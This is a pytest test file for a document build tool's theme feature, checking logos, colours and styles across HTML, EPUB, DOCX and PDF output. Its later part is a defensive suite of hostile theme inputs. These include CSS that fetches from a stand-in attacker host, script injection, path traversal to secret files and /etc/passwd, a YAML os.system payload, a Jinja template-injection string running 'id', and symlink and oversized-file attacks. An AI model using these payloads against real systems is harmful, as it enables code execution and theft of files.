"""An organisation's look: whose it is, where it is seen, and what of it is never taken."""

from __future__ import annotations

import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path

import pytest

from tests.scenarios.projects import Project, Ran, small
from tests.strangers import EVIL, IN_A_DRAWING, SVG, WHOLE_DRAWINGS

FOLDER = "locales/overlays/MX/theme"
THEME, STYLES, LOGO = f"{FOLDER}/theme.yaml", f"{FOLDER}/extra.css", f"{FOLDER}/logo.svg"
EDITION = "locales/editions/es_MX.yaml"
SHOWN = "es_MX/html/overlays/MX/theme/logo.svg"
MARK = SVG.format('<circle cx="50" cy="50" r="45" fill="#7a1f3d"/>')
YAML = """\
logo: logo.svg
logo_alt: {es: "Logotipo de <la> sociedad", en: "Logo of the society"}
colours: {accent: "#7a1f3d"}
"""


@pytest.fixture
def project(tmp_path: Path) -> Project:
    project = small(tmp_path)
    project.write(THEME, YAML)
    project.write(STYLES, 'h1 { font-family: "Georgia", serif; }\n')
    project.write(LOGO, MARK)
    return project


def build(project: Project, *more: str) -> tuple[Ran, Path]:
    ran = project.run("build", "es_MX", "--to", str(project.path("out")), *more)
    return ran, project.path("out")


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (width + 1) * min(height, 100))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_it_is_on_pages_in_both_lights(project: Project) -> None:
    ran, out = build(project)
    assert ran.code == 0, ran.err
    html = out / "es_MX/html"
    logo = (
        '<img src="overlays/MX/theme/logo.svg" alt="Logotipo de &lt;la&gt; sociedad"'
        ' width="300" height="100">'
    )
    for page in ("index.html", "single.html", "01-plan.html"):
        assert (html / page).read_text("utf-8").count(logo) == 1, page
    assert (out / SHOWN).read_text("utf-8") == MARK
    css = (html / "style.css").read_text("utf-8")
    assert css.endswith('h1 { font-family: "Georgia", serif; }\n')
    light, dark = re.findall(
        r"@media screen and \(prefers-color-scheme: (\w+)\) \{\n  :root \{(.*) \}", css
    )
    assert light[0] == "light"
    assert "--accent: #7a1f3d;" in light[1]
    assert dark[0] == "dark"
    assert "--accent: #7a1f3d;" not in dark[1]
    assert (
        css.rpartition("/* The publisher's own look. */")[2] in (html / "single.html").read_text()
    )
    # Its policy is what it was: no page may run or fetch more.
    page = (html / "01-plan.html").read_text("utf-8")
    assert "default-src 'none'; script-src 'sha256-" in page
    assert "style-src 'self' file: 'unsafe-inline'" in page


def test_it_is_in_books_documents_and_print(project: Project) -> None:
    project.change(EDITION, "formats: [html, md]", "formats: [epub, docx, pdf, pdf-large]")
    ran, out = build(project)
    assert ran.code == 0, ran.err
    with zipfile.ZipFile(only(out / "es_MX/epub")) as book:
        names = {name.rpartition("/")[2]: name for name in book.namelist()}
        assert book.read(names["logo.svg"]) == MARK.encode()
        title = book.read(names["title.xhtml"]).decode()
        assert 'src="logo.svg"' in title
        assert 'alt="Logotipo de &lt;la&gt; sociedad"' in title
        style = book.read(names["book.css"]).decode()
        # A colour without its ground could not be read where a reader has chosen a dark one.
        assert re.findall(r"^(.*) \{.*\bcolor: (.*?);", style, re.MULTILINE) == [
            (".cover", "#ffffff"),
            (".cover a", "#ffffff"),
        ]
        assert ".cover { background: #7a1f3d; color: #ffffff;" in style
    with zipfile.ZipFile(only(out / "es_MX/docx")) as document:
        words = document.read("word/document.xml").decode()
        assert words.index("Logotipo de &lt;la&gt; sociedad") < words.index('w:val="Title"')
        styles = document.read("word/styles.xml").decode()
        assert 'w:color w:val="7A1F3D"' in styles
        assert "0A5561" not in styles
        assert MARK.encode() in [document.read(n) for n in document.namelist() if n.endswith("svg")]
    import pikepdf

    for name in ("pdf", "pdf-large"):
        with pikepdf.open(only(out / "es_MX" / name)) as pdf:
            told = [str(one["/Alt"]) for one in pdf.objects if is_figure(one)]
        assert "Logotipo de <la> sociedad" in told, name


def only(folder: Path) -> Path:
    (found,) = folder.iterdir()
    return found


def is_figure(one: object) -> bool:
    import pikepdf

    return isinstance(one, pikepdf.Dictionary) and one.get("/S") == "/Figure" and "/Alt" in one


def test_the_most_specific_of_the_overlays_gives_it_whole(project: Project) -> None:
    base = "overlay: {}\nlanguage: es\noperations: []\n"
    for name, colour in (("latin-america", "#0b3d91"), ("society", "#2d5a1b")):
        project.write(f"locales/overlays/{name}/overlay.yaml", base.format(name))
        project.write(
            f"locales/overlays/{name}/theme/theme.yaml", f'colours: {{accent: "{colour}"}}\n'
        )
    css = []
    for overlays in ("latin-america, MX, society", "latin-america, MX", "latin-america"):
        before = re.search(r"overlays: \[.*\]", project.text(EDITION))
        assert before
        project.change(EDITION, before[0], f"overlays: [{overlays}]")
        ran, out = build(project)
        assert ran.code == 0, ran.err
        css.append((out / "es_MX/html/style.css").read_text("utf-8"))
    for text, colour in zip(css, ("#2d5a1b", "#7a1f3d", "#0b3d91"), strict=True):
        assert f"--accent: {colour};" in text
    # Two are never mixed: no logo or style of another one.
    assert "Georgia" not in css[0] + css[2]
    assert not (project.path("out") / SHOWN).exists()


def test_without_a_theme_nothing_is_said_of_one(tmp_path: Path) -> None:
    project = small(tmp_path)
    _, out = build(project)
    assert "own look" not in (out / "es_MX/html/style.css").read_text("utf-8")
    assert 'class="logo"' not in (out / "es_MX/html/index.html").read_text("utf-8")


def test_words_in_another_language_are_marked_and_stop_a_release(project: Project) -> None:
    project.change(THEME, 'es: "Logotipo de <la> sociedad", ', "")
    ran, out = build(project)
    assert ran.code == 0
    assert "[theme-words]" in ran.err
    page = (out / "es_MX/html/index.html").read_text("utf-8")
    assert 'alt="Logo of the society" width="300" height="100" lang="en" dir="ltr">' in page
    assert "[theme-words]" in build(project, "--release")[0].err
    # Words that say no language are in that of the overlay.
    project.change(THEME, '{en: "Logo of the society"}', '"Logotipo"')
    ran, _ = build(project)
    assert "theme" not in ran.err


def test_a_colour_that_cannot_be_read_stops_a_release_and_is_not_used(project: Project) -> None:
    project.change(THEME, "#7a1f3d", "#ffcc00")
    ran, out = build(project)
    assert ran.code == 1
    assert f"{THEME}:3:19: error: links and headings (#ffcc00) cannot be read well" in ran.err
    assert '"#7e6500"' in ran.err
    if (out / "es_MX").exists():
        assert "#ffcc00" not in (out / "es_MX/html/style.css").read_text("utf-8")
    project.change(THEME, "#ffcc00", "#7e6500")
    assert build(project)[0].code == 0


def test_what_is_kept_of_a_build_knows_the_theme(tmp_path: Path) -> None:
    """The same bytes as without what was kept, whatever becomes of the theme."""
    project = small(tmp_path / "project")
    words = project.text("locales/es/guide.po").replace("ES Rest", "ES Descanse")
    steps: list[Callable[[], None]] = [
        lambda: None,
        lambda: (project.write(THEME, YAML), project.write(LOGO, MARK))[0],
        lambda: project.change(THEME, "#7a1f3d", "#0b3d91"),
        lambda: project.write(LOGO, MARK.replace("45", "40")),
        lambda: project.write(STYLES, "h1 { text-align: center; }\n"),
        lambda: project.write("locales/es/guide.po", words),
        lambda: project.path(THEME).unlink(),
    ]
    seen = []
    for number, step in enumerate(steps):
        step()
        _, kept = build(project)
        new = tmp_path / f"new-{number}"
        project.run("build", "es_MX", "--to", str(new))
        seen.append(files_of(kept))
        assert seen[-1] == files_of(new), number
    assert all(one != other for one, other in pairwise(seen))


def files_of(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and "html" in path.parts
    }


def test_what_nobody_reads_is_told(project: Project) -> None:
    for name in ("base.html.j2", "cover.html", "Mark.woff2", "old.svg", "README.md"):
        project.write(f"{FOLDER}/{name}", "{{ cycler.__init__.__globals__.os.popen('id') }}")
    ran, out = build(project)
    assert ran.code == 0
    assert ran.err.count("[file-unused]") == 4
    assert "templates are programs" in ran.err
    assert not [path for path in out.rglob("*") if path.name in ("base.html.j2", "Mark.woff2")]


def test_another_spelling_of_its_name_is_told(project: Project) -> None:
    project.path(THEME).rename(project.path(f"{FOLDER}/theme.yml"))
    assert "[file-not-read]" in build(project)[0].err


# What a stranger may put into a theme. SECRET is a file beside the project, and nothing of it, of
# these addresses and of these programs may ever be in what is built.
SECRET = "the-secret-of-somebody-else"
IN_THE_STYLES = [
    f'@import "https://{EVIL}/a.css";',
    f"h1 {{ background: url(https://{EVIL}/a.png) }}",
    f"h1 {{ background: \\75rl(https://{EVIL}/a.png) }}",
    f"h1 {{ font-family: url(//{EVIL}/a), serif }}",
    f"@font-face {{ font-family: X; src: url(//{EVIL}/x.woff) }}",
    f"p {{ background-image: image-set('//{EVIL}/a.png' 1x) }}",
    f"h1 {{ font-family: \"</style><script>alert('{EVIL}')</script>\", serif }}",
    f"</style><script>alert('{EVIL}')</script>",
    f"h1 {{ width: expression(alert('{EVIL}')) }}",
    f"h1 {{ behavior: url(//{EVIL}/x.htc) }}",
    f"h1 {{ -moz-binding: url(//{EVIL}/x.xml#a) }}",
    f'.cover h1::after {{ content: "{EVIL}" }}',
    ".draft { display: none }",
    "a[href^='tel:9'] { background: url(data:image/png;base64,AAAA) }",
    f"h1 {{ --x: url(//{EVIL}) }}",
    f"@namespace url(//{EVIL});",
    f"<!-- @import url(//{EVIL}); -->",
    "h1 { color: #fefefe }",
    "\0h1 { font-weight: 400 }",
]
IN_THE_SETTINGS = [
    YAML.replace("logo.svg", "../../../../../secret.txt"),
    YAML.replace("logo.svg", "../../../../../secret.svg"),
    YAML.replace("logo.svg", '"/etc/passwd"'),
    YAML.replace("logo.svg", f'"https://{EVIL}/logo.svg"'),
    YAML.replace("logo.svg", f'"data:image/svg+xml,{EVIL}.svg"'),
    YAML.replace("logo.svg", "..%2f..%2fsecret.svg"),
    YAML.replace("logo.svg", "logo.svg\\u0000.png"),
    YAML.replace("#7a1f3d", f"red; background: url(//{EVIL})"),
    YAML.replace("#7a1f3d", "#7a1f3d} * {display: none"),
    YAML.replace("#7a1f3d", "var(--x)"),
    YAML + f"template: '{{{{ {EVIL} }}}}'\n",
    YAML + "fonts: ../../fonts\n",
    YAML + f"a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, '{EVIL}']\n",
    f"!!python/object/apply:os.system ['echo {EVIL}']\n",
    "logo: [logo.svg]\nlogo_alt: {es: x}\n",
    "\0",
]


def hostile() -> dict[str, Callable[[Project], None]]:
    def put(name: str, content: str) -> Callable[[Project], None]:
        return lambda project: project.write(name, content)

    found = {f"logo {one}"[:60]: put(LOGO, SVG.format(one)) for one in IN_A_DRAWING}
    found |= {f"whole logo {n}": put(LOGO, one) for n, one in enumerate(WHOLE_DRAWINGS)}
    found |= {f"styles {one}"[:60]: put(STYLES, one) for one in IN_THE_STYLES}
    found |= {f"settings {n}": put(THEME, one) for n, one in enumerate(IN_THE_SETTINGS)}
    return found


def link(name: str, to: str) -> Callable[[Project], None]:
    def made(project: Project) -> None:
        project.path(name).unlink()
        project.path(name).symlink_to(project.root.parent / to)

    return made


def linked_folder(project: Project) -> None:
    there = project.root.parent / "elsewhere"
    project.path(FOLDER).rename(there)
    project.path(FOLDER).symlink_to(there)


def inner_link(project: Project) -> None:
    project.path(LOGO).rename(project.path("locales/overlays/MX/blocks/logo.svg"))
    project.path(LOGO).symlink_to("../blocks/logo.svg")


def turning_link(project: Project) -> None:
    project.path(LOGO).unlink()
    project.path(LOGO).symlink_to("logo.svg")


def large(content: bytes, name: str = "logo.png") -> Callable[[Project], None]:
    def made(project: Project) -> None:
        project.change(THEME, "logo.svg", name)
        project.write(f"{FOLDER}/{name}", content)

    return made


def a_pipe(project: Project) -> None:
    project.path(LOGO).unlink()
    os.mkfifo(project.path(LOGO))


HOSTILE = hostile() | {
    "a link to the logo": link(LOGO, "secret.svg"),
    "a link to the settings": link(THEME, "secret.txt"),
    "a link to the styles": link(STYLES, "secret.txt"),
    "a link to the folder": linked_folder,
    "a link to itself": turning_link,
    "a link within the overlay": inner_link,
    "a pipe": a_pipe,
    "many points": large(png(30_000, 30_000)),
    "a large logo": large(png(2_500, 2_500)),
    "a large file": large(b"\x89PNG\r\n\x1a\n" + b"\0" * 600_000),
    "a large drawing": large(SVG.format("<g/>" * 200_000).encode(), "logo2.svg"),
    "a program": large(b"\x7fELF" + b"\0" * 100),
    "a picture cut off": large(png(10, 10)[:40]),
}


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The style sheet as ever."""
    project = small(tmp_path_factory.mktemp("clean"))
    return (build(project)[1] / "es_MX/html/style.css").read_bytes()


@pytest.mark.at_length
@pytest.mark.parametrize("name", HOSTILE)
def test_of_a_hostile_theme_nothing_is_carried_out_and_each_is_told(
    name: str, tmp_path: Path, clean: bytes
) -> None:
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "secret.svg").write_text(SVG.format(f"<text>{SECRET}</text>"))
    project = small(tmp_path / "project")
    project.write(THEME, YAML)
    project.write(STYLES, "h1 { font-weight: 400; }\n")
    project.write(LOGO, MARK)
    HOSTILE[name](project)
    ran, out = build(project, "--format", "html")
    told = re.findall(r"^(\S+?): (error|warning): .*\[[a-z-]+\]", ran.err, re.MULTILINE)
    assert [path for path, _ in told if path.startswith(FOLDER)], ran.err
    assert "Traceback" not in ran.err
    for path in out.rglob("*"):
        content = path.read_bytes() if path.is_file() else b""
        assert SECRET.encode() not in content, path
        if path.suffix in (".html", ".css", ".svg"):
            assert not re.search(rb"evil\.example|passwd|javascript:|<iframe", content), path
    if any(kind == "error" for path, kind in told if path.startswith(FOLDER)):
        # Nothing of it is used, and the edition looks as ever.
        assert ran.code == 1
        css = out / "es_MX/html/style.css"
        assert not css.exists() or css.read_bytes() == clean


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (png(2_500, 2_500), "2,500 × 2,500 points"),
        (png(200, 50) + b" " * 600_000, "more than 512 KB"),
    ],
)
def test_a_logo_that_is_too_large_says_so(project: Project, content: bytes, said: str) -> None:
    large(content)(project)
    ran, _ = build(project, "--format", "html")
    assert ran.code == 1
    assert said in ran.err
    project.write(f"{FOLDER}/logo.png", png(200, 50))
    ran, out = build(project, "--format", "html")
    assert ran.code == 0
    assert 'logo.png" alt=' in (out / "es_MX/html/index.html").read_text("utf-8")
